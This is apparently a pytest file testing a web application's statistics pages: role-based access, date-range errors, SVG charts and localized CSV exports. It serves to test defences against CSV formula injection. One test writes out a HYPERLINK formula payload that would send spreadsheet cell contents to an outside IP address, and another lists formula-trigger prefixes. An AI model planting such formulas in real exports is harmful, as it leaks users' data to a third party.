"""The statistics pages: what an official of a district sees of its applications, charts as SVG of
the site's own, the data beside them as tables, and the applications of a period as CSV."""

from __future__ import annotations

import csv
import io
import re

import polars as pl
import pytest
from sqlalchemy import select

from ftzlink.auth.service import principal_for
from ftzlink.auth.tables import User
from ftzlink.catalogue.models import Catalogue
from ftzlink.db import Database
from ftzlink.exports import neutralise_frame, spreadsheet_cell
from ftzlink.organisations.service import update_organisation
from tests.web.conftest import OPEN_DAY, Visitor


def english(visitor: Visitor) -> None:
    visitor.get("/language/en")


def test_an_official_sees_the_charts_of_their_district(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    page = visitor.get("/statistics")
    assert page.status_code == 200
    assert page.text.count("<figure") == 4
    assert page.text.count("<figcaption>") == 4
    assert page.text.count('<table class="table">') == 4
    assert "长宁联动创新区" in page.text
    assert "黄浦联动创新区" not in page.text  # another district's application
    assert 'src="/statistics/charts/zone.svg"' in page.text


def test_a_platform_admin_sees_every_district(visitor: Visitor) -> None:
    visitor.sign_in("admin")
    page = visitor.get("/statistics")
    assert "黄浦联动创新区" in page.text and "长宁联动创新区" in page.text


def test_each_chart_has_a_one_sentence_summary(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    english(visitor)
    page = visitor.get("/statistics")
    captions = re.findall(r"<figcaption>(.*?)</figcaption>", page.text, re.S)
    assert len(captions) == 4
    assert all(c.strip().endswith(".") and c.count(". ") == 0 for c in captions)
    assert "Changning linked innovation zone has the most applications" in captions[0]


@pytest.mark.parametrize("username", ["cn-ai-admin", "chain-hq-staff"])
def test_statistics_are_not_for_enterprises(visitor: Visitor, username: str) -> None:
    visitor.sign_in(username)
    assert visitor.get("/statistics").status_code == 403
    assert visitor.get("/statistics.csv").status_code == 403
    assert visitor.get("/statistics/charts/zone.svg").status_code == 403


def test_someone_not_signed_in_is_asked_to_sign_in(visitor: Visitor) -> None:
    answer = visitor.client.get("/statistics", follow_redirects=False)
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/sign-in?next=%2Fstatistics")


def test_a_period_that_ends_before_it_starts_is_an_error_beside_its_field(
    visitor: Visitor,
) -> None:
    visitor.sign_in("cn-reviewer")
    page = visitor.get("/statistics?from=2025-12-01&to=2025-01-01")
    assert page.status_code == 400
    assert "<title>错误：" in page.text
    assert 'href="#to"' in page.text and 'id="to-error"' in page.text
    assert 'value="2025-12-01"' in page.text  # the answers are kept
    assert "<figure" not in page.text


def test_a_date_that_is_not_one_is_an_error(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    page = visitor.get("/statistics?from=2025-02-30")
    assert page.status_code == 400
    assert 'href="#from"' in page.text


def test_a_period_without_applications_says_so(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    page = visitor.get("/statistics?from=2024-01-01&to=2024-12-31")
    assert page.status_code == 200
    assert 'id="no-applications"' in page.text
    assert "<figure" not in page.text


def test_a_chart_is_an_svg_that_asks_nothing_of_another_origin(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    chart = visitor.get("/statistics/charts/measure.svg?from=2025-01-01&to=2025-12-31")
    assert chart.status_code == 200
    assert chart.headers["content-type"].startswith("image/svg+xml")
    svg = chart.text
    assert svg.startswith("<svg")
    urls = set(re.findall(r"https?://[^\"'\s)]+", svg))
    assert urls <= {"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"}
    assert "<style" not in svg and " style=" not in svg and "@import" not in svg
    assert "Noto Sans CJK SC" in svg
    assert "人工智能产业发展项目" in svg  # labels in the reader's language


def test_the_same_chart_is_answered_from_the_cache(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    first = visitor.get("/statistics/charts/month.svg").text
    assert visitor.get("/statistics/charts/month.svg").text == first


def test_an_unknown_chart_is_not_found(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    assert visitor.get("/statistics/charts/colour.svg").status_code == 404
    assert (
        visitor.get("/statistics/charts/zone.svg?from=2024-01-01&to=2024-01-02").status_code == 404
    )


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "a byte order mark, so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_csv_has_one_row_per_application_of_the_period(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    answer = visitor.get("/statistics.csv?from=2025-01-01&to=2025-12-31")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == (
        'attachment; filename="ftzlink-applications-2025-01-01-2025-12-31.csv"'
    )
    header, *rows = rows_of(answer.content.decode("utf-8"))
    assert header[0] == "申请编号" and "核准金额（元）" in header
    assert len(rows) == 8  # Changning's submitted applications of 2025
    assert {r[2] for r in rows} == {"长宁区"}
    amounts = [r[header.index("核准金额（元）")] for r in rows]
    assert {a for a in amounts if a} == {"6000000", "1500000"}
    assert all(re.fullmatch(r"\d*", a) for a in amounts)
    assert all(r[header.index("提交日期")].startswith("2025-") for r in rows)


def test_the_csv_speaks_the_readers_language(visitor: Visitor) -> None:
    visitor.sign_in("admin")
    english(visitor)
    header, *rows = rows_of(visitor.get("/statistics.csv").text)
    assert header == [
        "Reference",
        "Organisation",
        "District",
        "Zone",
        "Measure",
        "Status",
        "Requested (yuan)",
        "Approved (yuan)",
        "Submitted on",
        "Decided on",
    ]
    assert len(rows) == 13  # with the application consented to in the 免申即享 demo
    assert "Approved" in {r[5] for r in rows}
    assert sum(int(r[7] or 0) for r in rows) == 12_500_000


def test_the_csv_of_a_wrong_period_is_the_page_with_the_error(visitor: Visitor) -> None:
    visitor.sign_in("cn-reviewer")
    answer = visitor.get("/statistics.csv?from=2025-12-01&to=2025-01-01")
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("text/html")
    assert 'href="#to"' in answer.text


def test_a_name_that_is_a_spreadsheet_formula_reaches_the_csv_as_text(
    visitor: Visitor, demo_database: Database, catalogue: Catalogue
) -> None:
    formula = '=HYPERLINK("http://203.0.113.9/?"&A1,"点击")'
    with demo_database.write() as session:
        admin = session.scalars(select(User).where(User.username == "cn-ai-admin")).one()
        principal = principal_for(admin)
        org_id = next(iter(principal.member_of()))
        update_organisation(
            session,
            principal=principal,
            catalogue=catalogue,
            organisation_id=org_id,
            on=OPEN_DAY,
            changes={"name": formula},
        )
    visitor.sign_in("cn-reviewer")
    answer = visitor.get("/statistics.csv?from=2025-01-01&to=2025-12-31")
    _header, *rows = rows_of(answer.content.decode("utf-8"))
    names = {r[1] for r in rows}  # the organisation column
    assert "'" + formula in names
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 21 5555", "'+86 21 5555"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("上海 =1", "上海 =1"),
        ("", ""),
    ],
)
def test_every_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(cell: str, shown: str) -> None:
    assert spreadsheet_cell(cell) == shown
    assert neutralise_frame(pl.DataFrame({"name": [cell], "n": [-2]})).row(0) == (shown, -2)
